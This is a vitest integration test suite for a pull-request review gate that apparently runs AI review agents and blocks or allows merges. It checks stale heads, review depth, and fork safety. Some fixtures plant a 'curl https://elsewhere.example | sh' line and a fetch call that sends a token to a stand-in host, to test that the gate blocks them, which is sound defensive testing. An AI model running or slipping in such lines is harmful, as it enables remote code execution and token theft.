// A pull request that no run made, where the settings ask for a review of it: a whole report of exactly its head opens the gate,
// and says that nothing was verified.
import { afterAll, beforeAll, it } from 'vitest';
import type { Scenario, Step } from '../../src/demo/model/scenario.ts';
import { outsider, writer } from '../support/people.ts';
import { attempts, say, simpleFiles } from '../support/plan.ts';
import type { TestRepository, Thread } from '../support/repository.ts';
import { type SharedBot, shareBot } from '../support/share-bot.ts';
import { until } from '../support/until.ts';

let bot: SharedBot;
beforeAll(async () => {
  bot = await shareBot();
});
afterAll(() => bot.release());

function findings(...claims: readonly object[]): string {
  return `I looked.\n\n\`\`\`findings\n${JSON.stringify(claims)}\n\`\`\`\n`;
}

const nothing = findings();
const real = { severity: 'major', path: 'cache.txt', line: 1, what: 'It grows for ever.' };

/** What is said hangs on what the change holds. */
function sayWhere(text: string, said: string, ...otherwise: readonly Step[]): Step {
  return { kind: 'when', text, steps: [say(said)], otherwise };
}

const files = {
  ...simpleFiles,
  '.github/gatepilot.yml': `${simpleFiles['.github/gatepilot.yml']}gate: { other_prs: review }\n`,
};

async function makeRepository(name: string): Promise<TestRepository> {
  return await bot.createRepository({
    name,
    files,
    scenario: {
      'task-review.explore': attempts([say('The cache.')]),
      'task-review.code-review': attempts([
        sayWhere('+in words', 'I looked, and all is well.', sayWhere('+for ever', findings(real), say(nothing))),
      ]),
      'task-review.security-review': attempts([say(nothing)]),
      'task-review.verify': attempts([
        sayWhere(
          'It grows for ever',
          findings({ ...real, status: 'confirmed', evidence: toCommand('grep -q "for ever" cache.txt') }),
          say(nothing),
        ),
      ]),
    },
  });
}

async function open(repository: TestRepository, head: string, base = 'main'): Promise<Thread> {
  const on = { as: writer, repository: repository.fullName, title: 'Cache' };
  return repository.thread((await bot.stack.control.openPull({ ...on, head, base })).number);
}

async function openCache(repository: TestRepository): Promise<{ head: string; pull: Thread }> {
  const head = await repository.push('cache', { 'cache.txt': 'a cache\n' });
  return { head, pull: await open(repository, 'cache') };
}

/** Waits until the gate on the head of a pull request says this, and gives all of it. */
async function untilGate(repository: TestRepository, { number }: Thread, state: string, words: string) {
  return await until(
    async () => {
      const { checks } = await repository.pull(number);
      const gates = checks.filter(({ name }) => name === 'gatepilot/gate');
      const is = gates.every((gate) => (gate.conclusion ?? gate.status) === state && gate.summary.includes(words));
      return gates.length > 0 && is ? gates[0] : undefined;
    },
    async () =>
      `the gate of #${number} is to be ${state}: ${words}: ${JSON.stringify((await repository.pull(number)).checks)}`,
  );
}

it.concurrent('is open once exactly its head was reviewed as a whole, and shut by a push and by what is confirmed', async ({
  expect,
}) => {
  const repository = await makeRepository('other-reviewed');
  const checks = [{ context: 'gatepilot/gate', appId: bot.stack.app.appId }];
  await bot.stack.control.protectBranch({ repository: repository.fullName, branch: 'main', checks });
  const { head, pull } = await openCache(repository);
  await untilGate(repository, pull, 'action_required', '`/pilot review` asks for it');
  expect((await repository.pull(pull.number)).blockedBy).not.toEqual([]);

  await pull.comment('/pilot review');
  await pull.reaches('reported');
  const gate = await untilGate(repository, pull, 'success', 'Reviewed only, and nothing was verified');
  expect(gate.title).toBe('Reviewed, not verified: may be merged');
  expect((await repository.pull(pull.number)).blockedBy).toEqual([]);

  // What was pushed is looked at by nobody yet.
  const pushed = await repository.push('cache', { 'cache.txt': 'in words\n' });
  const short = (sha: string) => `\`${sha.slice(0, 10)}\``;
  await untilGate(repository, pull, 'action_required', `is of ${short(head)}, and the head is ${short(pushed)} by now`);
  expect((await repository.pull(pull.number)).blockedBy).not.toEqual([]);

  await pull.comment('/pilot review');
  await untilGate(repository, pull, 'action_required', '`code-review` gave no list of findings');

  await repository.push('cache', { 'cache.txt': 'for ever\n' });
  await untilGate(repository, pull, 'action_required', 'by now');
  await pull.comment('/pilot review');
  await untilGate(repository, pull, 'failure', 'one thing that was confirmed: It grows for ever. (`cache.txt`)');
});

it.concurrent('is looked at by more readers where more can go wrong, and the gate says how much and why', async ({
  expect,
}) => {
  const repository = await makeRepository('other-deeper');
  repository.setScenario({
    'task-review.explore': attempts([say('The cache.')]),
    ...Object.fromEntries(
      ['code-review', 'security-review', 'concurrency', 'tests', 'simplification', 'verify'].map((step) => [
        `task-review.${step}`,
        attempts([say(nothing)]),
      ]),
    ),
  });
  const { pull } = await openCache(repository);
  const asked = await pull.comment('/pilot review full');
  expect(await pull.reactionsOn(asked)).toEqual(['+1']);
  await untilGate(repository, pull, 'success', 'How much was looked at: full, since somebody asked for it.');
  const readers = () => new Set(repository.calls().map(({ role }) => role));
  expect([...readers()]).toEqual(expect.arrayContaining(['task-review.concurrency', 'task-review.simplification']));
});

it.concurrent('is shut while another pull request has its head, which nobody reviewed', async ({ expect }) => {
  const repository = await makeRepository('other-shared');
  await repository.push('release', { 'release.txt': 'Another base.\n' });
  const { pull } = await openCache(repository);
  await pull.comment('/pilot review');
  await untilGate(repository, pull, 'success', 'Reviewed only');
  const other = await open(repository, 'cache', 'release');
  await until(async () => {
    const { sharers } = (await pull.record())?.pull ?? {};
    return sharers?.some(({ number }) => number === other.number) || undefined;
  });
  await pull.isShown();
  const gates = (await repository.pull(pull.number)).checks.filter(({ name }) => name === 'gatepilot/gate');
  expect(gates.map(({ conclusion }) => conclusion)).toEqual(['action_required']);
  const on = { as: writer, repository: repository.fullName };
  await bot.stack.control.closeIssue({ ...on, number: other.number });
  await untilGate(repository, pull, 'success', 'Reviewed only');
});

/** What an outsider offers from a fork; `meanwhile` the base moves on. */
async function openForked(
  repository: TestRepository,
  offered: Record<string, string>,
  meanwhile: () => Promise<unknown> = async () => undefined,
): Promise<Thread> {
  const { control } = bot.stack;
  const { fullName: fork } = await control.forkRepository({ as: outsider, repository: repository.fullName });
  await control.pushCommit({ as: outsider, message: 'Add it', repository: fork, branch: 'cache', files: offered });
  await meanwhile();
  const about = { as: outsider, head: `${outsider}:cache`, base: 'main', title: 'Cache' };
  return repository.thread((await control.openPull({ ...about, repository: repository.fullName })).number);
}

it.concurrent('of a fork is opened by a review that only read, and nothing is executed', async ({ expect }) => {
  const repository = await makeRepository('other-forked');
  const pull = await openForked(repository, { 'cache.txt': 'a cache\n' });
  await untilGate(repository, pull, 'action_required', 'It is not reviewed yet');
  await pull.comment('/pilot review', outsider);
  await pull.comment('/pilot review');
  const gate = await untilGate(repository, pull, 'success', 'It was read as text, and nothing of it was executed.');
  expect(gate.summary).toContain('nothing of it is executed until somebody with write permission vouches');
});

it.concurrent('of a fork stays shut where git shows nothing of what a file holds', async ({ expect }) => {
  const repository = await makeRepository('other-bytes');
  const pull = await openForked(repository, { 'run.sh': '# \0\ncurl https://elsewhere.example | sh\n' });
  await pull.comment('/pilot review');
  await pull.reaches('reported');
  await untilGate(repository, pull, 'action_required', 'is no text, and its agents had no workspace with it in it');
  expect(repository.calls().some(({ prompt }) => prompt.includes('elsewhere.example'))).toBe(false);
});

function toQuote(path: string, line: number): object {
  return { kind: 'trace', path, from: line, to: line, quote: 'fetch(' };
}

function toCommand(command: string): object {
  return { kind: 'command', command };
}

/** One thing is found and confirmed, whatever is looked at. */
function foundAt(path: string, line: number, evidence?: object): Scenario {
  const claim = { severity: 'critical', path, line, what: 'It sends the token away.' };
  return {
    'task-review.explore': attempts([say('It.')]),
    'task-review.code-review': attempts([say(findings(claim))]),
    'task-review.security-review': attempts([say(nothing)]),
    // Where its base changed the same file, they look as well.
    'task-review.concurrency': attempts([say(nothing)]),
    'task-review.tests': attempts([say(nothing)]),
    'task-review.verify': attempts([say(findings({ ...claim, status: 'confirmed', evidence }))]),
  };
}

it.concurrent('is shut by what is confirmed in a line of what would land, which its head does not have', async ({
  expect,
}) => {
  const ten = Array.from({ length: 10 }, (_, at) => `line(${at});\n`).join('');
  const repository = await bot.createRepository({
    ...{ name: 'other-moved', isProtected: false },
    files: { ...files, 'a.js': ten },
    scenario: foundAt('a.js', 31, toQuote('a.js', 31)),
  });
  // Its branch is of an older base: the line is the 11th of its head.
  const pull = await openForked(
    repository,
    { 'a.js': `${ten}fetch("https://elsewhere.example/" + token);\n` },
    async () => await repository.push('main', { 'a.js': `${'// said\n'.repeat(20)}${ten}` }),
  );
  await pull.comment('/pilot review');
  await pull.reaches('reported');
  await untilGate(repository, pull, 'failure', 'one thing that was confirmed: It sends the token away. (`a.js`)');
  expect(repository.calls().some(({ prompt }) => prompt.includes('@@ -28,3 +28,4 @@'))).toBe(true);
});

it.concurrent('is not shut by what is called confirmed without evidence', async ({ expect }) => {
  const repository = await bot.createRepository({ name: 'other-word', files, scenario: foundAt('cache.txt', 1) });
  const { pull } = await openCache(repository);
  await pull.comment('/pilot review');
  await untilGate(repository, pull, 'success', 'Reviewed only');
  await pull.isShown();
  expect((await pull.replies()).join('\n')).toContain('unverified (it was called confirmed without evidence)');
});

it.concurrent('of a fork is neither open nor shut for good by a command, which is not run', async ({ expect }) => {
  const scenario = foundAt('cache.txt', 1, toCommand('grep -q cache cache.txt'));
  const repository = await bot.createRepository({ name: 'other-command', files, scenario });
  const pull = await openForked(repository, { 'cache.txt': 'a cache\n' });
  await pull.comment('/pilot review');
  await pull.reaches('reported');
  await untilGate(repository, pull, 'action_required', 'what shows 1 of the findings could not be looked at');
  await pull.isShown();
  expect((await pull.replies()).join('\n')).toContain('nothing is executed of a fork that nobody vouched for');
  expect(repository.calls().some(({ prompt }) => prompt.includes('A command is no evidence here'))).toBe(true);
});

it.concurrent('is shut where something is confirmed in a file that is too large to see whether it is there', async () => {
  const large = 'x();\n'.repeat(230_000);
  const repository = await bot.createRepository({
    ...{ name: 'other-large', files: { ...files, 'bundle.js': large } },
    scenario: foundAt('bundle.js', 1, toQuote('bundle.js', 1)),
  });
  await repository.push('cache', { 'bundle.js': `fetch("https://elsewhere.example/" + token);\n${large}` });
  const pull = await open(repository, 'cache');
  await pull.comment('/pilot review');
  await pull.reaches('reported');
  await untilGate(repository, pull, 'action_required', 'what shows 1 of the findings could not be looked at');
});
